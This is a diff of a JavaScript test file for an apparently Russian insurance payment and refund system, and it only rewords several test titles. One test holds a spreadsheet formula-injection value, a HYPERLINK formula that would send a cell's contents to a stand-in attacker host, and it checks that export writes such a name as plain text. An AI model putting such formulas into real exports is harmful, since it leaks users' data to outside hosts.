@@ -181,7 +181,7 @@ test('a refund is taken from a surcharge paid by card first, and the rest from t
   assert.equal((await listed(contract))?.toTransfer, left);
 });
 
-test('a refund that the bank refuses is not recorded as done because of an earlier partial refund', async () => {
+test('an earlier partial refund does not make a refund that the bank refuses count as done', async () => {
   const contract = await savedDraft(partner, { set: { 'insuredObject.osago.purpose': 'TAXI' } });
   const link = await openLink(partner, contract, 'CARD');
   await browser.card(link, goodCard);
@@ -206,7 +206,7 @@ test('a refund that the bank refuses is not recorded as done because of an earli
   assert.equal((await listed(contract))?.toTransfer, Number(refund).toFixed(2));
 });
 
-test('refund acquirer and refund transferred refuse unknown numbers and invalid document numbers', async () => {
+test('`refund acquirer` and `refund transferred` refuse unknown refund numbers and invalid document numbers', async () => {
   for (const words of [
     ['acquirer', '999999'],
     ['acquirer', 'x'],
@@ -219,7 +219,7 @@ test('refund acquirer and refund transferred refuse unknown numbers and invalid 
   }
 });
 
-test('refund transfers writes a name that begins like a formula as text', async () => {
+test('`refund transfers` writes a name as text if it begins like a formula', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1;"ООО")';
   const contract = await soldContract(partner, {
     holderType: 'corporate',
